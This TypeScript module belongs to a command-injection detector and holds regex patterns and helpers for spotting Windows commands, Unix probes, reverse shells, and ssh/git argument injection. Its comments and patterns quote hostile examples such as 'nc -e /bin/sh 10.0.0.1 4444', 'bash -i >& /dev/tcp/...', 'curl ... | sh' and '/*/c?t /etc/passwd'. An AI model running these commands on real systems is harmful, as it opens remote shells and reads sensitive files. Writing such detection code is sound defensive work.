/**
 * Command lines recognised without a shell separator: Windows commands that only ever appear as commands
 * (`cmd /c`, `for /f ... do`, `net user`, `reg add HKLM\...`, `netsh advfirewall`, `powershell -enc`,
 * `certutil -urlcache`), a whole value that is a Unix command line (`uname -a`, `whoami`, `perl -e '...'`,
 * `nc -e /bin/sh 10.0.0.1 4444`), and GTFOBins-style invocations anywhere (`bash -i >& /dev/tcp/...`,
 * `find . -exec /bin/sh \;`, `awk 'BEGIN {system("/bin/sh")}'`, `tar --checkpoint-action=exec=...`), ssh and git
 * options that run a command (`-oProxyCommand=id`, `--upload-pack=id`, `-c core.sshCommand=id`), git's `ext::`
 * transport (`ext::sh -c id`) and command paths spelled with glob wildcards (`/???/??t`, `/*\/c?t`).
 * Used by the cmdi detector; every pattern is a fixed shape with bounded gaps.
 */
import { CH, mayBeRegexSpace } from './char-classes.js';
import { COMMANDS, globSpellsCommand } from './cmdi-commands.js';

/** A Windows command at the start of the value or right after a separator. */
export const WINDOWS_COMMAND =
  /(?:^|[;&|\n\r`(]\s{0,4})(?:cmd(?:\.exe)?\s{1,4}\/[ckr]\b|for\s{1,4}\/[fdlr]\b[^\n]{0,200}\bdo\b|net1?(?:\.exe)?\s{1,4}(?:localgroup\b|(?:user|group|view|share|use|session|accounts|config|start|stop)(?:\s*$|\s[^\n]{0,100}\/(?:add|delete|del|domain|active|y|times|persistent)\b|\s{1,4}\\\\))|reg(?:\.exe)?\s{1,4}(?:add|query|delete|save|export|import|load)\s{1,4}["']?(?:hk|\\\\)|netsh(?:\.exe)?\s{1,4}(?:firewall|advfirewall|interface|wlan|winhttp|int|ipsec|http)\b|(?:powershell|pwsh)(?:\.exe)?\s{1,4}(?:-|\/)[a-z]|wmic(?:\.exe)?\s{1,4}(?:process|os|useraccount|service|shadowcopy|\/node)\b|certutil(?:\.exe)?\s{1,4}[-\/](?:urlcache|decode|encode|f\b)|bitsadmin(?:\.exe)?\s{1,4}\/|schtasks(?:\.exe)?\s{1,4}\/|vssadmin\s{1,4}(?:delete|list|create)\b|wevtutil\s{1,4}cl\b|rundll32(?:\.exe)?\s{1,4}\S{1,100},|regsvr32(?:\.exe)?\s{1,4}\/|mshta(?:\.exe)?\s{1,4}(?:https?:|vbscript:|javascript:)|taskkill\s{1,4}\/|tasklist(?:\s{1,4}\/|\s*$)|systeminfo\b|whoami(?:\.exe)?(?:\s{1,4}\/|\s*$)|ipconfig(?:\.exe)?(?:\s{1,4}\/|\s*$)|(?:type|dir|del|copy|move)\s{1,4}[a-z]:\\|sc(?:\.exe)?\s{1,4}(?:query|create|config|stop|start)\s{1,4}\w|start\s{1,4}\/b\b)/;

/** The first two letters of every command WINDOWS_COMMAND names: bit `(first - 97) * 26 + (second - 97)` set. */
const WINDOWS_COMMAND_PREFIXES: Uint8Array = (() => {
  const table = new Uint8Array(26 * 26);
  for (const word of [
    'cmd', 'for', 'net', 'reg', 'powershell', 'pwsh', 'wmic', 'certutil', 'bitsadmin', 'schtasks', 'vssadmin', 'wevtutil',
    'rundll32', 'mshta', 'taskkill', 'systeminfo', 'whoami', 'ipconfig', 'type', 'dir', 'del', 'copy', 'move', 'sc', 'start',
  ]) {
    table[(word.charCodeAt(0) - 97) * 26 + word.charCodeAt(1) - 97] = 1;
  }
  return table;
})();

/** The separators WINDOWS_COMMAND reads, and the character class of each (the mask tells which a value has). */
const WINDOWS_SEPARATORS = ';&|\n\r`(';
const WINDOWS_SEPARATOR_CLASSES = [CH.semicolon, CH.amp, CH.pipe, CH.newline, CH.newline, CH.backtick, CH.paren];

/**
 * A necessary condition for `WINDOWS_COMMAND.test(s)` (`s` lower-cased, `mask` the classes of the value it came
 * from): at the start, or after one of its separators and at most four white-space characters, the first two
 * letters of one of its commands, white space skipped as `mayBeRegexSpace` says. `(dog is friendly) & call` has no
 * such place.
 */
export function mayRunWindowsCommand(s: string, mask: number): boolean {
  if (startsWindowsCommand(s, 0)) return true;
  for (let k = 0; k < WINDOWS_SEPARATORS.length; k++) {
    if ((mask & WINDOWS_SEPARATOR_CLASSES[k]!) === 0) continue;
    const separator = WINDOWS_SEPARATORS[k]!;
    for (let at = s.indexOf(separator); at !== -1; at = s.indexOf(separator, at + 1)) {
      let i = at + 1;
      for (let spaces = 0; spaces < 4 && i < s.length && mayBeRegexSpace(s.charCodeAt(i)); spaces++) i++;
      if (startsWindowsCommand(s, i)) return true;
    }
  }
  return false;
}

function startsWindowsCommand(s: string, i: number): boolean {
  const a = s.charCodeAt(i) - 97;
  const b = s.charCodeAt(i + 1) - 97;
  // NaN past the end fails both tests.
  return a >= 0 && a < 26 && b >= 0 && b < 26 && WINDOWS_COMMAND_PREFIXES[a * 26 + b] === 1;
}

/**
 * A whole value that is a Unix probe or tool invocation (`^...$`: a sentence containing the words passes).
 * `sleep 5` counts only before the end or a shell separator: "Sleep 8 hours" is a note in a health app.
 */
export const UNIX_COMMAND_LINE =
  /^\s*(?:uname(?:\s{1,4}-[a-z]{1,6})?|whoami|ifconfig(?:\s{1,4}-a)?|systeminfo|which\s{1,4}(?:curl|wget|nc|ncat|netcat|python3?|perl|ruby|php|gcc|bash|sh|nmap|socat|telnet)|perl\s{1,4}-[a-z]{0,3}e\s|python[23]?\s{1,4}-c\s|ruby\s{1,4}-e\s|php\s{1,4}-r\s|node\s{1,4}-e\s|lua\s{1,4}-e\s|nc(?:at)?\s{1,4}(?:-[a-z]{1,4}\s{1,4}){0,4}\S{1,100}\s{1,4}\d{1,5}|sleep\s{1,4}\d{1,4}(?:\.\d{1,3})?[smhd]?[ \t]{0,4}(?:[;|&#`)<>]|$)|ping\s{1,4}-[nc]\s{1,4}\d{1,4}|id\s{1,4}-[a-z]|cat\s{1,4}\/[a-z]|ls\s{1,4}-[a-z]{1,5}|wget\s{1,4}https?:|curl\s{1,4}(?:-[a-z]{1,4}\s{1,4}){0,4}https?:[^\s]{1,300}\s*\|)[^\n]{0,400}$/;

/** GTFOBins-style invocations that spawn shells or open reverse connections, anywhere in a value. */
export const GTFOBINS =
  /\/dev\/(?:tcp|udp)\/[\w.-]{1,100}\/\d{1,5}|\b(?:bash|sh|zsh)\s{1,4}-i\s{0,4}[>&<]|\bnc(?:at)?\s{1,4}(?:-[a-z]{1,4}\s{1,4}){0,4}-[a-z]{0,3}e\s{1,4}\/|-exec\s{1,4}\/bin\/(?:ba)?sh\b|\bsystem\s*\(\s*["']\/bin\/(?:ba)?sh|--checkpoint-action\s*=\s*exec|\bmkfifo\s{1,4}\/tmp\/|\b0<&\d{2,4}\b|\bexec\s{1,4}\d{1,3}<>\/dev\/|\bsocat\s{1,4}[^\n]{0,100}exec:|\bbusybox\s{1,4}(?:nc|sh|telnetd|httpd|wget)\b|\bpython[23]?\s{1,4}-c\s{1,4}['"]\s{0,4}import\s{1,4}(?:os|pty|socket|subprocess)|\bpty\.spawn\s*\(|\b(?:curl|wget)\s[^|;\n]{1,300}\|\s*(?:ba)?sh\b|\bchmod\s{1,4}(?:\+x|[0-7]{3,4})\s{1,4}\/tmp\//;

/** White space (any character a regex `\s` matches), `/dev/` or `/bin/`: what GTFOBINS needs beside a slash. */
const SLASH_COMPANIONS = /\s|\/(?:dev|bin)\//;

/**
 * A necessary condition for `GTFOBINS.test(s)` (`s` lower-cased, `mask` the character classes of the value it came
 * from): each alternative of the pattern needs `|`, `/dev/`, `/bin/`, a `/` and white space, or one of the literals
 * below with the character it contains. Prose with an apostrophe, a parenthesis or an `&` (most free text that
 * reaches the cmdi detector) and URLs have none of them and skip the pattern, which tries its fifteen alternatives
 * at every position.
 */
export function mayMatchGtfobins(s: string, mask: number): boolean {
  // `curl ... | sh`
  if ((mask & CH.pipe) !== 0) return true;
  // With a slash: `/dev/tcp/` and `system('/bin/sh` need no white space; every other alternative with a slash in it
  // (`nc -e /`, `mkfifo /tmp/`, `-exec /bin/sh`) needs some. A URL has neither and skips the pattern.
  if ((mask & CH.slash) !== 0 && SLASH_COMPANIONS.test(s)) return true;
  // `bash -i >&`, `0<&196`
  if ((mask & (CH.gt | CH.amp | CH.lt)) !== 0 && (s.indexOf('-i') !== -1 || s.indexOf('0<&') !== -1)) return true;
  if ((mask & CH.equals) !== 0 && s.indexOf('--checkpoint-action') !== -1) return true;
  if ((mask & CH.colon) !== 0 && s.indexOf('socat') !== -1) return true; // socat ... exec:
  if ((mask & CH.quote) !== 0 && s.indexOf('import') !== -1) return true; // python -c 'import os
  if ((mask & CH.paren) !== 0 && s.indexOf('pty.spawn') !== -1) return true;
  return s.indexOf('busybox') !== -1; // busybox nc: no syntax character at all
}

/** First words of the command lines above: a value starting with anything else skips both patterns. */
export const COMMAND_LINE_WORDS: ReadonlySet<string> = new Set([
  'cmd', 'cmd.exe', 'for', 'net', 'net1', 'net.exe', 'reg', 'reg.exe', 'netsh', 'netsh.exe', 'powershell', 'powershell.exe',
  'pwsh', 'pwsh.exe', 'wmic', 'wmic.exe', 'certutil', 'certutil.exe', 'bitsadmin', 'bitsadmin.exe', 'schtasks', 'schtasks.exe',
  'vssadmin', 'wevtutil', 'rundll32', 'rundll32.exe', 'regsvr32', 'regsvr32.exe', 'mshta', 'mshta.exe', 'taskkill', 'tasklist',
  'systeminfo', 'whoami', 'whoami.exe', 'ipconfig', 'ipconfig.exe', 'type', 'dir', 'del', 'copy', 'move', 'sc', 'sc.exe', 'start',
  'uname', 'ifconfig', 'which', 'perl', 'python', 'python2', 'python3', 'ruby', 'php', 'node', 'lua', 'nc', 'ncat', 'sleep',
  'ping', 'id', 'cat', 'ls', 'wget', 'curl',
]);

/** The first two letters of COMMAND_LINE_WORDS (COMMAND_WORD_START's `hintStarts`; every word has two or more). */
export const COMMAND_WORD_STARTS: readonly string[] = [...new Set([...COMMAND_LINE_WORDS].map((w) => w.slice(0, 2)))];

/** A value whose first word (see `firstWord`) is one of COMMAND_LINE_WORDS, as a pattern (a `PlainValueReading` hint). */
export const COMMAND_WORD_START = new RegExp(`^[ \\t]*(?:${[...COMMAND_LINE_WORDS].map((w) => w.split('.').join('\\.')).join('|')})(?![a-z0-9.])`);

/** The first word of a value (letters, digits, dots), without leading whitespace; at most 16 characters. */
export function firstWord(s: string): string {
  let i = 0;
  while (i < s.length && (s.charCodeAt(i) === 32 || s.charCodeAt(i) === 9)) i++;
  const start = i;
  while (i < s.length && i - start < 16) {
    const c = s.charCodeAt(i);
    if ((c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 46) i++;
    else break;
  }
  return s.slice(start, i);
}

/** The longest word of COMMAND_LINE_WORDS; `firstWord` stops at 16 characters, so longer words never match. */
const LONGEST_COMMAND_WORD = Math.max(...[...COMMAND_LINE_WORDS].map((w) => w.length));

/** Length and first two characters of every word of COMMAND_LINE_WORDS, as `length << 16 | c0 << 8 | c1`. */
const COMMAND_WORD_SHAPES: ReadonlySet<number> = new Set([...COMMAND_LINE_WORDS].map((w) => (w.length << 16) | (w.charCodeAt(0) << 8) | w.charCodeAt(1)));

/**
 * `COMMAND_LINE_WORDS.has(firstWord(s.toLowerCase()))` for values of 6 characters or more (shorter ones are false):
 * true when a value's first word is a command the separator-less command-line rules know (`whoami`, `uname`). Asked
 * of almost every plain value, so it reads the first word in place, ASCII letters folded by hand, and only makes the
 * word a string when its length and first two characters are those of a command word. A non-ASCII character up to
 * the end of the word (where `toLowerCase` could fold it into ASCII, or change lengths) takes the exact expression,
 * on the word's 16 characters only (`firstWord` reads no further, and lower-casing never shortens a string).
 */
export function startsWithCommandWord(s: string): boolean {
  const n = s.length;
  if (n < 6) return false;
  let i = 0;
  while (i < n && (s.charCodeAt(i) === 32 || s.charCodeAt(i) === 9)) i++;
  const start = i;
  let c0 = 0;
  let c1 = 0;
  for (; i < n && i - start < 16; i++) {
    let c = s.charCodeAt(i);
    // Checked before the word test, so the character that ends the word is covered too.
    if (c >= 128) return COMMAND_LINE_WORDS.has(firstWord(s.slice(start, start + 16).toLowerCase()));
    if (c >= 65 && c <= 90) c += 32;
    if (!((c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 46)) break;
    if (i === start) c0 = c;
    else if (i === start + 1) c1 = c;
  }
  const length = i - start;
  if (length < 2 || length > LONGEST_COMMAND_WORD || !COMMAND_WORD_SHAPES.has((length << 16) | (c0 << 8) | c1)) return false;
  return COMMAND_LINE_WORDS.has(s.slice(start, i).toLowerCase());
}

/**
 * `-oProxyCommand=...`, `-o LocalCommand=...`: ssh and scp options that run a local command. A value handed to
 * `ssh`/`scp`/`git` as an argument needs no shell separator to run it (argument injection). The option starts the
 * value or follows white space, a quote, `=` or `/` (the host of `ssh://-oProxyCommand=id/x`, CVE-2017-1000117 and
 * its svn twin): `foo-oProxyCommand` is no option, "use the -o flag" names none. ssh also reads `-oKeyword value`
 * without `=`: that spelling only as the whole value's start.
 */
export const SSH_COMMAND_OPTION = /(?:^|[\s"'=\/])-o[ \t]{0,4}["']?(?:proxycommand|localcommand|knownhostscommand)[ \t]{0,4}=|^\s{0,8}-o["']?(?:proxycommand|localcommand|knownhostscommand)[ \t]+\S/;

/**
 * `--upload-pack=touch /tmp/pwn`, `-c core.sshCommand=id`, `--config=core.sshCommand=id`: git options that run a
 * command. A value passed to `git clone <value>` or `git ls-remote <value>` is read as an option and git runs its
 * command (argument injection, no shell separator needed). git takes any unique prefix of a long option
 * (`--upload=`, `--upload-pa=`) and `--exec=` for `--upload-pack=`. Like SSH_COMMAND_OPTION, the option starts the
 * value or follows white space or a quote, and needs its `=`: "use --upload-pack to set the path" sets none.
 * `-u <cmd>` (short for `--upload-pack`) is left out: `-u id` is too common in prose. Each part is a literal or one
 * bounded run of a class the next part cannot start with, so a match is tried once per start and cannot backtrack.
 */
export const GIT_COMMAND_OPTION =
  /(?:^|[\s"'])(?:--(?:(?:upload|receive)(?:-(?:p(?:a(?:ck?)?)?)?)?|exec)[ \t]{0,4}=|(?:-c|--config)[ \t=]{0,5}["']?core\.(?:sshcommand|gitproxy|fsmonitor|hookspath|pager|editor|askpass)[ \t]{0,4}=)/;

/** A character of a command name after `ext::` (letters, digits, `.`, `_`, `-`, as COMMANDS spells them). */
function isCommandNameChar(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 46 || c === 95 || c === 45;
}

/** What may stand before `ext::` for git to read it as the URL: white space, a quote or the `=` of an option. */
function mayStartGitUrl(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 13 || c === 34 || c === 39 || c === 61;
}

/**
 * `ext::sh -c touch% /tmp/pwned`, `git clone ext::sh -c id`: git's `ext::` transport (git-remote-ext) runs the
 * command after `ext::` to talk to the "remote", so a value handed to `git clone`/`git fetch` as a URL runs it (no
 * shell separator needed). Like GIT_COMMAND_OPTION, `ext::` starts the value or follows white space, a quote or an
 * option's `=` (`file.ext::note` and `std::ext::foo` are prose and code), and a command of COMMANDS or a path
 * (`/bin/sh`, `./x`, `~/x`) must follow it: `ext::note` runs nothing an attacker wants. `s` is lower case; reads a
 * bounded word after each `ext::`, so the scan is linear.
 */
export function runsGitExtCommand(s: string): boolean {
  for (let at = s.indexOf('ext::'); at !== -1; at = s.indexOf('ext::', at + 5)) {
    if (at > 0 && !mayStartGitUrl(s.charCodeAt(at - 1))) continue;
    let i = at + 5;
    for (let spaces = 0; spaces < 4 && (s.charCodeAt(i) === 32 || s.charCodeAt(i) === 9); spaces++) i++;
    const c = s.charCodeAt(i);
    if (c === 47 || ((c === 46 || c === 126) && (s.charCodeAt(i + 1) === 47 || s.startsWith('./', i + 1)))) return true;
    let end = i;
    while (end - i < 24 && isCommandNameChar(s.charCodeAt(end))) end++;
    if (end > i && !isCommandNameChar(s.charCodeAt(end)) && COMMANDS.has(s.slice(i, end))) return true;
  }
  return false;
}

/** Characters of a glob-spelled path: letters, digits, `.`, `_`, `-`, the separator `/` and the wildcards `?*[]`. */
function isGlobPathChar(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 47 || c === 63 || c === 42 || c === 91 || c === 93 || c === 46 || c === 95 || c === 45;
}

/** What may end a command path: the end, white space, a shell separator, a redirection or a closing `)`. */
function endsCommandPath(c: number): boolean {
  return Number.isNaN(c) || c === 32 || c === 9 || c === 10 || c === 13 || c === 59 || c === 124 || c === 38 || c === 96 || c === 41 || c === 60 || c === 62;
}

/** Longest glob-spelled command path read (`/???/???/??????`); longer runs are no evasion of a command path. */
const MAX_GLOB_PATH = 48;

/** Bits of `globCommandPath`'s answer. */
export const GLOB_PATH = {
  /** A `?`, `[` or a `*` between letters or digits (`c*t`), not as the path's last character (`/api/v1?`). */
  wildcard: 1,
  /** The first segment has a `?` (`/???/`, `/b??/`): no URL path or file glob starts so; a command path does. */
  firstSegmentQuestion: 2,
} as const;

/**
 * A command path spelled with glob wildcards at `at` (a `/`), as filter evasions write `/bin/cat` without `cat`:
 * `/???/??t`, `/b??/c?t`, `/usr/bin/c*t`. The shell expands it to the one file it matches and runs that. Two to four
 * segments of at most 12 characters each (`isGlobPathChar`), ended by `endsCommandPath`; returns `GLOB_PATH` bits
 * (0: no such path, or one without a wildcard). A `[` counts only as a one-character class (`[c]`, `[a-c]`: not a
 * Next.js route's `[id]`), and past the first segment two wildcards are needed (`/api/items?active` is a query).
 * Reads at most MAX_GLOB_PATH characters.
 */
export function globCommandPath(s: string, at: number): number {
  if (s.charCodeAt(at) !== 47) return 0;
  let bits = 0;
  let segments = 0;
  let segmentLength = 0;
  let wildcards = 0;
  let i = at + 1;
  for (; i < s.length && i - at <= MAX_GLOB_PATH; i++) {
    const c = s.charCodeAt(i);
    if (!isGlobPathChar(c)) break;
    if (c === 47) {
      if (segmentLength === 0) return 0; // `//`: no command path
      segments++;
      segmentLength = 0;
      continue;
    }
    if (++segmentLength > 12) return 0;
    const last = endsCommandPath(s.charCodeAt(i + 1));
    const oneCharClass = c === 91 && (s.charCodeAt(i + 2) === 93 || s.charCodeAt(i + 4) === 93);
    if ((c === 63 || oneCharClass) && !last) {
      if (segments === 0 && c === 63) bits |= GLOB_PATH.wildcard | GLOB_PATH.firstSegmentQuestion;
      else if (++wildcards >= 2) bits |= GLOB_PATH.wildcard;
    } else if (c === 42 && isAlnum(s.charCodeAt(i - 1)) && isAlnum(s.charCodeAt(i + 1))) bits |= GLOB_PATH.wildcard;
  }
  if (segmentLength === 0 || !endsCommandPath(s.charCodeAt(i))) return 0;
  segments++;
  return segments >= 2 && segments <= 4 ? bits : 0;
}

function isAlnum(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57);
}

/**
 * `/*\/c?t /etc/passwd`, `/*\/ca?`, `/*\/*\/who?mi`: a command path at `at` whose first segment is `*` (the shell
 * expands `/*\/c?t` to `/bin/cat` and whatever else matches, and runs the first), shaped as `globCommandPath` reads
 * one (two to four segments of `isGlobPathChar`, ended by `endsCommandPath`). A `*` first segment is how URL paths
 * and file globs start too (`/*\/index.html`, `/*\/*.js`), so the last segment must spell a command of COMMANDS
 * (`globSpellsCommand`). Reads at most MAX_GLOB_PATH characters.
 */
export function starGlobCommandPath(s: string, at: number): boolean {
  if (s.charCodeAt(at) !== 47 || s.charCodeAt(at + 1) !== 42 || s.charCodeAt(at + 2) !== 47) return false;
  let segments = 1;
  let start = at + 3;
  let i = start;
  for (; i < s.length && i - at <= MAX_GLOB_PATH; i++) {
    const c = s.charCodeAt(i);
    if (!isGlobPathChar(c)) break;
    if (c === 47) {
      if (i === start) return false; // `//`: no command path
      segments++;
      start = i + 1;
    } else if (i - start >= 12) return false;
  }
  if (i === start || segments > 3 || !endsCommandPath(s.charCodeAt(i))) return false;
  return globSpellsCommand(s.slice(start, i));
}
